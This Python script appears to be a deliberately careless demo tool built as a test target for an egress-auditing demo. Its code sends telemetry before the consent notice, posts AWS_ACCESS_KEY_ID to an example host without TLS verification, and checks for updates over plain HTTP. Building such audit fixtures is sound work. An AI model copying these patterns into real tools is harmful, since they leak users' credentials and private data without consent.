#!/usr/bin/env python3
"""demo-tool 1.4.2: a deliberately careless command-line tool (stdlib only) for egress-audit's demo.

It behaves like real tools observed phoning home, defects included:
- usage events on by default (opt-out), sent by a detached background process after the command
  exits, *before* the notice is printed; DO_NOT_TRACK ignored; CI runs send too;
- the event carries the user name, a base64 blob with host name and git remote, an unsalted
  SHA-256 of the project path, an MD5 of the git email, a persisted anonymous id and a
  machine-derived id;
- an error reporter that posts credentials from the environment and does not verify TLS;
- an update check over plain HTTP.
It honours its own opt-out (DEMO_TOOL_TELEMETRY=0 or `demo-tool telemetry disable`) and a "no"
at its interactive prompt.
"""

import base64
import gzip
import hashlib
import json
import os
import socket
import ssl
import subprocess
import sys
import time
import urllib.parse
import urllib.request
import uuid

VERSION = "1.4.2"
TELEMETRY_URL = "https://telemetry.demo-tool.example/v1/events"
ERRORS_URL = "https://errors.demo-tool.example/api/report"
UPDATES_URL = "http://updates.demo-tool.example/latest.json"
CONFIG = os.path.join(os.path.expanduser("~"), ".config", "demo-tool", "config.json")


def load_config():
    try:
        with open(CONFIG) as fo:
            return json.load(fo)
    except (OSError, ValueError):
        return {}


def save_config(cfg):
    os.makedirs(os.path.dirname(CONFIG), exist_ok=True)
    with open(CONFIG, "w") as fo:
        json.dump(cfg, fo)


def telemetry_enabled(cfg):
    if os.environ.get("DEMO_TOOL_TELEMETRY") == "0":
        return False
    return cfg.get("telemetry", True)  # opt-out: on unless refused


def git(*args):
    try:
        return subprocess.run(["git", *args], capture_output=True, text=True, timeout=5).stdout.strip()
    except OSError:
        return ""


def machine_id():
    try:
        with open("/etc/machine-id") as fo:
            raw = fo.read().strip()
    except OSError:
        raw = socket.gethostname()
    return hashlib.sha256((raw + ":demo-tool").encode()).hexdigest()


def event(name, cfg):
    host = os.environ.get("HOSTNAME") or socket.gethostname()
    ctx = {"host": host, "remote": git("remote", "get-url", "origin"), "py": sys.version.split()[0]}
    payload = {
        "event": name,
        "anonymousId": cfg["anonymous_id"],
        "machine": machine_id(),
        "session": uuid.uuid4().hex,
        "user": os.environ.get("USER", ""),
        "project": hashlib.sha256(os.getcwd().encode()).hexdigest(),
        "email_hash": hashlib.md5(git("config", "user.email").lower().encode()).hexdigest(),
        "ctx": base64.b64encode(json.dumps(ctx).encode()).decode(),
        "version": VERSION,
        "ts": int(time.time()),
    }
    if os.environ.get("CI"):
        payload["ci"] = {"provider": "github", "repository": os.environ.get("GITHUB_REPOSITORY", "")}
    return payload


def post(url, body, headers, context=None):
    req = urllib.request.Request(url, data=body, headers=headers, method="POST")
    try:
        urllib.request.urlopen(req, timeout=5, context=context).read()
    except Exception:
        pass  # telemetry must never break the tool


def send_in_background(payload):
    """Fork a detached sender, as real tools do so the command returns at once."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    time.sleep(0.2)
    body = gzip.compress(json.dumps({"batch": [payload]}).encode())
    post(TELEMETRY_URL, body, {"Content-Type": "application/json", "Content-Encoding": "gzip",
                               "User-Agent": f"demo-tool/{VERSION}"})
    os._exit(0)


def report_error(exc):
    fields = {"error": repr(exc), "version": VERSION,
              "env.AWS_ACCESS_KEY_ID": os.environ.get("AWS_ACCESS_KEY_ID", ""),
              "env.HOME": os.path.expanduser("~")}
    body = urllib.parse.urlencode(fields).encode()
    # Careless: certificate verification switched off "because corporate proxies break it".
    post(ERRORS_URL, body, {"Content-Type": "application/x-www-form-urlencoded"},
         context=ssl._create_unverified_context())


def check_updates():
    try:
        urllib.request.urlopen(f"{UPDATES_URL}?v={VERSION}", timeout=5).read()
    except Exception:
        pass


def first_run(cfg):
    if "anonymous_id" not in cfg:
        cfg["anonymous_id"] = uuid.uuid4().hex
        if sys.stdin.isatty():
            answer = input("Share anonymous usage statistics with demo-tool? [Y/n] ").strip().lower()
            cfg["telemetry"] = answer not in ("n", "no")
        save_config(cfg)
        return True
    return False


def main(argv):
    cmd = argv[1] if len(argv) > 1 else "help"
    cfg = load_config()
    if cmd == "telemetry":
        cfg.setdefault("anonymous_id", uuid.uuid4().hex)
        cfg["telemetry"] = argv[2:3] == ["enable"]
        save_config(cfg)
        print(f"telemetry {'enabled' if cfg['telemetry'] else 'disabled'}")
        return 0
    new = first_run(cfg)
    if telemetry_enabled(cfg):
        send_in_background(event(f"cli_{cmd}", cfg))
    check_updates()
    if cmd == "init":
        print("initialised demo-tool project")
    elif cmd == "build":
        try:
            raise RuntimeError("build cache corrupt")
        except RuntimeError as e:
            print(f"build failed: {e}; retrying without cache", file=sys.stderr)
            if telemetry_enabled(cfg):
                report_error(e)
        print("build ok")
    if new:
        # The notice comes after the first event has already left; the margin is wide so that the
        # order holds on a loaded machine too (the audit's CONSENT-004 must not come and go).
        time.sleep(2.5)
        print("demo-tool collects anonymous usage statistics. Disable with: demo-tool telemetry disable")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
